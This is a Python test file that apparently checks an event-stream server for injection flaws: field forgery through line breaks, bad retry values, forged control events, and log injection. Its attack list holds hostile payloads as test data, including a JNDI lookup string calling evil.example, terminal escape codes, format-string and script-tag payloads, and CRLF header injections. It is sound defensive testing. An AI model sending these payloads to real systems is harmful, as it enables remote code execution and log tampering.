"""What publishers and clients write into events and logs stays in its place."""

from __future__ import annotations

import json
import urllib.parse
from pathlib import Path

import pytest

from tests.harness.process import Node
from tests.harness.stream import Stream
from tests.threats.conftest import finish
from tests.threats.wire import WAYS, answered, ask, request

FORM = {"Content_Type": "application/x-www-form-urlencoded"}
FORGERY = "abc{}data: injected{}{}id: next"
BREAKS = ["\n", "\r", "\r\n", "\u2028", "\u0085", "\x0b", "\x0c", "\x1c", "\x00", "\n\r"]


def fields(kind: str, text: str) -> dict[str, str]:
    return {"topic": "injection", "data": "honest"} | {kind: text}


@pytest.mark.parametrize("line_break", BREAKS, ids=repr)
@pytest.mark.parametrize("kind", ["id", "type", "retry", "topic", "data"])
def test_a_field_cannot_forge_another(open_node: Node, kind: str, line_break: str) -> None:
    """S40: a field with a line break in it is refused or is one event with one field, on both publishing endpoints."""
    text = FORGERY.format(*[line_break] * 3)
    with Stream(open_node.port, "/channels/main/events") as stream:
        stream.next_event()
        form = request("POST", "/.well-known/mercure", urllib.parse.urlencode(fields(kind, text)).encode(), **FORM)
        line = request(
            "POST", "/channels/main/events", json.dumps(fields(kind, text)).encode(), Content_Type="application/json"
        )
        accepted = [answered(open_node.port, raw).status for raw in (form, line)]
        assert (
            answered(
                open_node.port, request("POST", "/.well-known/mercure", b"topic=injection&data=end", **FORM)
            ).status
            == 200
        )
        blocks = []
        while (block := stream.next_event()).data != "end":
            blocks.append(block)
    assert set(accepted) <= {200, 400}
    assert len(blocks) == accepted.count(200)
    # A line separator ends no line of an event stream, so it is an ordinary character; only `retry` takes none at all.
    harmless = kind == "data" or (line_break == "\u2028" and kind != "retry")
    assert harmless or accepted == [400, 400]
    for block in blocks:
        assert [name for name, _ in block.fields if name != "data"] in (["id"], ["id", "event"])
        assert block.id not in ("abc", "next")
        assert (block.data or "") == (text.replace("\r\n", "\n").replace("\r", "\n") if kind == "data" else "honest")


@pytest.mark.parametrize("retry", ["1e3", "-1", "+5", "5 ", " 5", "1.5", "\uff11", "1_0", "0x1", "", "\u0661"])
def test_only_digits_make_a_retry(open_node: Node, retry: str) -> None:
    """S40: anything but ASCII digits is refused, or for the empty text left out."""
    body = urllib.parse.urlencode({"topic": "injection", "data": "x", "retry": retry}).encode()
    status = answered(open_node.port, request("POST", "/.well-known/mercure", body, **FORM)).status
    assert status == 400 or (retry == "" and status == 200)


@pytest.mark.parametrize(
    "name",
    [
        "hello",
        "gap",
        "heartbeat",
        "open",
        "error",
        "draining",
        "overloaded",
        "auth_expired",
        "finished",
        "slow",
        "idle",
        "max_age",
        "mercure",
    ],
)
def test_a_publisher_cannot_speak_in_the_servers_name(open_node: Node, name: str) -> None:
    """S40: control events can't be published, so a client can believe them."""
    body = urllib.parse.urlencode({"topic": "injection", "type": name}).encode()
    assert answered(open_node.port, request("POST", "/.well-known/mercure", body, **FORM)).status == 400
    line = json.dumps({"topic": "injection", "type": name}).encode()
    assert (
        answered(open_node.port, request("POST", "/channels/main/events", line, Content_Type="application/json")).status
        == 400
    )


LOG_ATTACKS = [
    b"a\x1b[2J\x1b[31mred\x07", b"${jndi:ldap://evil.example/a}", b"%s%n%x{0}{__class__}",
    "a\u2028b\u2029c\u0085d".encode(), b"a\xff\xfe\x80",
    b'","level":"critical","event":"forged', b"\\n\\r\\u000a", b"<script>alert(1)</script>", b"a" * 30_000,
    b"\x7f\x9b31m", b"a\tb",
]  # fmt: skip


@pytest.mark.parametrize("log_format", ["json", "console"])
def test_a_log_line_is_one_line_and_harmless_whatever_comes(tmp_path: Path, log_format: str) -> None:
    """S46: attacks in every part of a request: each line of the log is whole, short, printable, and with `json` valid
    JSON.
    """
    node = Node(tmp_path, drain_seconds=0, log_level="debug", log_format=log_format).start()
    try:
        for attack in LOG_ATTACKS:
            _inject(node.port, attack)
    finally:
        finish(node)
    for line in node.log_path.read_bytes().split(b"\n"):
        text = line.decode("utf-8")
        assert len(text) < 4096, text[:200]
        assert all(character.isprintable() for character in text), text[:300]
        if log_format == "json" and text:
            assert isinstance(json.loads(text), dict)


def _inject(port: int, attack: bytes) -> None:
    quoted = urllib.parse.quote(attack + b"\r\nforged=1\n", safe="").encode()
    for way in WAYS:
        for raw in (
            b"GET /channels/main/events HTTP/1.1\r\nHost: localhost\r\nUser-Agent: "
            + attack
            + b"\r\nReferer: "
            + attack
            + b"\r\n\r\n",
            b"GET /channels/main/events HTTP/1.1\r\nHost: localhost\r\nLast-Event-ID: " + attack + b"\r\n\r\n",
            b"GET /channels/main/events?topic="
            + quoted
            + b"&last_event_id="
            + quoted
            + b"&last="
            + quoted
            + b" HTTP/1.1\r\nHost: localhost\r\n\r\n",
            b"GET /channels/" + quoted + b"/events HTTP/1.1\r\nHost: localhost\r\n\r\n",
            b"GET /" + quoted + b" HTTP/1.1\r\nHost: " + attack + b"\r\nX-Forwarded-For: " + attack + b"\r\n\r\n",
            b"GET /" + attack + b" HTTP/1.1\r\nHost: localhost\r\n\r\n",
            attack + b" / HTTP/1.1\r\nHost: localhost\r\n\r\n",
            b"GET /channels/main/events HTTP/1.1\r\nHost: localhost\r\nAuthorization: "
            + attack
            + b"\r\nOrigin: "
            + attack
            + b"\r\n\r\n",
            request("POST", "/.well-known/mercure", b"topic=" + quoted + b"&type=" + quoted + b"&id=" + quoted, **FORM),
            request("POST", "/channels/main/events", b'{"topic": "' + attack + b'"}', Content_Type="application/json"),
        ):
            ask(port, raw, way)
